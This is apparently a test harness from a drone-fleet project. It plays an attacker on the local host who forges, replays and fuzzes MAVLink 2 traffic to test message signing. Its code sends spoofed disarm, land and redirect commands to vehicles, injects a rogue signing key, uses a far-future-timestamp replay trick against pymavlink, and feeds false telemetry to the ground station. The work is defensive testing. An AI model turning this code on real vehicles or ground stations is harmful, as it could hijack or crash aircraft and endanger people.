"""An attacker on the same host as a signed fleet in flight (a process: `python -m tests.attacker`).

It knows what an attacker on the host can learn: the UDP ports the vehicles and the ground
station listen on (`ss -ulpn`, here given as arguments by the test that looked them up in
/proc), that the ground station is system 255, component 190, and the vehicles systems 1..N,
and it sniffs the traffic: the recording being written (`--sniff LOG`, flushed every second)
holds every frame exchanged, signatures included, as a radio sniffer would. For `--rounds`
rounds, `--period` seconds apart, it sends to every vehicle port, as the ground station,
setpoints far from the formation, mode changes (LAND, RTL, BRAKE, by SET_MODE and by
MAV_CMD_DO_SET_MODE), forced disarms, a speed change to 0 and an unsigned SETUP_SIGNING with its
own key; and to every ground-station port, as each UAV, a disarmed LAND heartbeat, a position
200 m off, a NaN true position and a failsafe text. Each in four forms:

* `unsigned`: plain MAVLink 2;
* `bad_key`: signed with the attacker's own key, current timestamp;
* `bad_key_future`: the same with a far-future timestamp (pymavlink 2.4.50 would record it
  before checking the signature and then refuse the real ground station as a replay);
* `replayed`: genuine frames from the sniffed recording sent again (setpoints, mode changes,
  arming, take-off from the ground station; telemetry from the vehicles), plus, with
  `--captured-key-file`, the same commands signed with the fleet key at a timestamp
  `--captured-age` seconds old: byte for byte what a recording of the real ground station
  sending them would hold (the key stands in for a capture from an earlier flight).

and `FUZZ_PER_ROUND` datagrams per round to each port made from genuine frames by bit flips,
cuts, garbage, wrong lengths and ids (`fuzz`, seeded). It prints one JSON object: datagrams
sent per form and target.
"""

from __future__ import annotations

import argparse
import base64
import hashlib
import json
import math
import random
import socket
import sys
import time
from collections import Counter
from collections.abc import Iterator
from pathlib import Path

from pymavlink.dialects.v20 import ardupilotmega as mavlink

SIGNING_EPOCH = 1420070400
GCS_SYSTEM, GCS_COMPONENT = 255, 190
LAND, RTL, BRAKE = 9, 6, 17
FORCE_DISARM = 21196
ORIGIN = (45.7640, 4.8357)
PER_TYPE = 5  # sniffed frames kept per message type and UAV
REPLAYS_PER_ROUND = 8  # sniffed frames replayed per round to each port
FUZZ_PER_ROUND = 20  # mutated frames and garbage per round to each port


def timestamp_now(offset_s: float = 0.0) -> int:
    """A MAVLink 2 signing timestamp (10 us since 2015-01-01) `offset_s` from now."""
    return int((time.time() - SIGNING_EPOCH + offset_s) * 100_000)


def codec(system: int, component: int, key: bytes | None, timestamp: int = 0) -> mavlink.MAVLink:
    mav = mavlink.MAVLink(None, srcSystem=system, srcComponent=component)
    if key is not None:
        mav.signing.secret_key = key
        mav.signing.sign_outgoing = True
        mav.signing.link_id = 0
        mav.signing.timestamp = timestamp
    return mav


def commands(targets: list[int]) -> Iterator[mavlink.MAVLink_message]:
    """What the attacker wants the vehicles to do."""
    lat, lon = ORIGIN[0] + 0.0015, ORIGIN[1] - 0.002  # ~200 m from the formation
    for target in targets:
        yield mavlink.MAVLink_set_position_target_global_int_message(
            0, target, 1, 6, 3576, int(lat * 1e7), int(lon * 1e7), 25.0, 0, 0, 0, 0, 0, 0, 0, 0
        )
        yield mavlink.MAVLink_set_position_target_local_ned_message(
            0, target, 1, 7, 3576, 150.0, -150.0, 0.0, 0, 0, 0, 0, 0, 0, 0, 0
        )
        yield mavlink.MAVLink_set_mode_message(target, 1, LAND)
        for mode in (LAND, RTL, BRAKE):
            yield mavlink.MAVLink_command_long_message(target, 1, 176, 0, 1, mode, 0, 0, 0, 0, 0)
        yield mavlink.MAVLink_command_long_message(
            target, 1, 400, 0, 0, FORCE_DISARM, 0, 0, 0, 0, 0
        )
        yield mavlink.MAVLink_command_long_message(target, 1, 400, 0, 0, 0, 0, 0, 0, 0, 0)
        yield mavlink.MAVLink_command_int_message(target, 1, 2, 178, 0, 0, 1, 0, -1, 0, 0, 999, 0)
        yield mavlink.MAVLink_command_long_message(target, 1, 21, 0, 0, 0, 0, 0, 0, 0, 0)


def telemetry() -> Iterator[mavlink.MAVLink_message]:
    """What the attacker wants the ground station to believe (from each UAV)."""
    lat, lon = int((ORIGIN[0] + 0.002) * 1e7), int((ORIGIN[1] + 0.002) * 1e7)
    nan = math.nan
    yield mavlink.MAVLink_heartbeat_message(2, 3, 81, LAND, 5, 3)
    yield mavlink.MAVLink_global_position_int_message(0, lat, lon, 190_000, 20_000, 0, 0, 0, 0)
    yield mavlink.MAVLink_sim_state_message(
        1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, nan, nan, 20.0, 0.1, 0.1, 0, 0, 0, 0, 0
    )
    yield mavlink.MAVLink_statustext_message(2, b"GCS Failsafe: landing")


def setup_signing(targets: list[int], key: bytes) -> Iterator[mavlink.MAVLink_message]:
    for target in targets:
        yield mavlink.MAVLink_setup_signing_message(target, 1, list(key), timestamp_now())


def mutate(rng: random.Random, frame: bytes) -> bytes:
    """A hostile datagram made from a genuine frame: bit flips, a cut, garbage after it, a
    wrong length or message id, or garbage alone."""
    data = bytearray(frame)
    choice = rng.randrange(6)
    if choice == 0:
        for _ in range(rng.randint(1, 8)):
            data[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
    elif choice == 1:
        data = data[: rng.randrange(len(data))]
    elif choice == 2:
        data += rng.randbytes(rng.randint(1, 60))
    elif choice == 3:
        data[1] = rng.randrange(256)
    elif choice == 4:
        data[7] = rng.randrange(256)
    else:
        data = bytearray(rng.randbytes(rng.randint(0, 300)))
    return bytes(data)


def pack(message: mavlink.MAVLink_message, mav: mavlink.MAVLink) -> bytes:
    return bytes(message.pack(mav))


def sniffed(log: Path | None) -> dict[str, list[bytes]]:
    """Genuine frames from the recording being written: "tx" (ground station -> UAVs) worth
    replaying, and "rx" (UAVs -> ground station)."""
    frames: dict[str, list[bytes]] = {"tx": [], "rx": []}
    if log is None or not log.exists():
        return frames
    from gcs.recording.logreader import read_recording

    wanted = {
        "tx": {"SET_POSITION_TARGET_GLOBAL_INT", "COMMAND_LONG", "COMMAND_INT", "HEARTBEAT"},
        "rx": {"HEARTBEAT", "GLOBAL_POSITION_INT", "SIM_STATE", "STATUSTEXT"},
    }
    recording = read_recording(log, keep=lambda topic: topic.startswith("/mavlink/"))
    for topic in recording.topics:
        direction = topic.rsplit("/", 1)[-1]
        if direction not in frames:
            continue
        seen: Counter = Counter()
        for _, message in recording.messages(topic):
            if message["type"] in wanted[direction] and seen[message["type"]] < PER_TYPE:
                seen[message["type"]] += 1
                frames[direction].append(base64.b64decode(message["raw"]))
    return frames


def attack(args: argparse.Namespace) -> dict:  # noqa: C901 (over 15 branches: to split)
    fleet_key = None
    if args.captured_key_file is not None:
        passphrase = args.captured_key_file.read_text().splitlines()[0].strip()
        fleet_key = hashlib.sha256(passphrase.encode()).digest()
    targets = list(range(1, args.uavs + 1))
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sent: Counter = Counter()
    rng = random.Random(args.seed)
    own_key = rng.randbytes(32)

    def send(form: str, where: str, port: int, data: bytes) -> None:
        try:
            sock.sendto(data, ("127.0.0.1", port))
            sent[f"{form}:{where}"] += 1
        except OSError:
            sent[f"{form}:{where}:error"] += 1

    frames = {"tx": [], "rx": []}
    for round_ in range(args.rounds):
        if round_ in (0, args.rounds // 2):  # sniff the traffic again half-way
            frames = sniffed(args.sniff)
        forms = {
            "unsigned": lambda s, c: codec(s, c, None),
            "bad_key": lambda s, c: codec(s, c, own_key, timestamp_now()),
            "bad_key_future": lambda s, c: codec(s, c, own_key, timestamp_now(86_400 * 365)),
        }
        if fleet_key is not None:
            old = timestamp_now(-args.captured_age)
            forms["replayed"] = lambda s, c, old=old: codec(s, c, fleet_key, old)
        for form, make in forms.items():
            mav = make(GCS_SYSTEM, GCS_COMPONENT)
            orders = [pack(message, mav) for message in commands([0])]  # 0: every vehicle
            keys = []
            if form == "unsigned":
                keys = [pack(message, mav) for message in setup_signing([0], own_key)]
            for port in args.vehicles:
                for data in orders:
                    send(form, "vehicle", port, data)
                for data in keys:
                    send("setup_signing", "vehicle", port, data)
            for k, port in enumerate(args.gcs):  # each ground-station port: one UAV's lies
                uav = targets[(k + round_) % len(targets)]
                for message in telemetry():
                    send(form, "gcs", port, pack(message, make(uav, 1)))
        for side, ports in (("tx", args.vehicles), ("rx", args.gcs)):
            where = "vehicle" if side == "tx" else "gcs"
            for port in ports:
                for data in rng.sample(frames[side], min(REPLAYS_PER_ROUND, len(frames[side]))):
                    send("replayed", where, port, data)
        genuine = frames["tx"] + frames["rx"] or orders
        for port in args.vehicles + args.gcs:
            for _ in range(FUZZ_PER_ROUND):
                where = "vehicle" if port in args.vehicles else "gcs"
                send("fuzz", where, port, mutate(rng, rng.choice(genuine)))
        time.sleep(args.period)  # the attack's own pace, not a synchronisation
    sock.close()
    return {"sent": dict(sent), "sniffed": {k: len(v) for k, v in frames.items()}}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="attacker", description=__doc__.splitlines()[0])
    ports = lambda text: [int(p) for p in text.split(",") if p]  # noqa: E731
    parser.add_argument("--vehicles", type=ports, required=True, help="vehicle UDP ports")
    parser.add_argument("--gcs", type=ports, default=[], help="ground-station UDP ports")
    parser.add_argument("--uavs", type=int, default=4, help="system ids 1..N")
    parser.add_argument("--rounds", type=int, default=20)
    parser.add_argument("--period", type=float, default=0.1, help="seconds between rounds")
    parser.add_argument("--sniff", type=Path, help="recording being written (sniffed frames)")
    parser.add_argument("--captured-key-file", type=Path, help="fleet key of old captures")
    parser.add_argument("--captured-age", type=float, default=10.0, help="seconds")
    parser.add_argument("--seed", type=int, default=1, help="seed of the fuzzed datagrams")
    args = parser.parse_args(argv)
    print(json.dumps(attack(args)))
    return 0


if __name__ == "__main__":
    sys.exit(main())
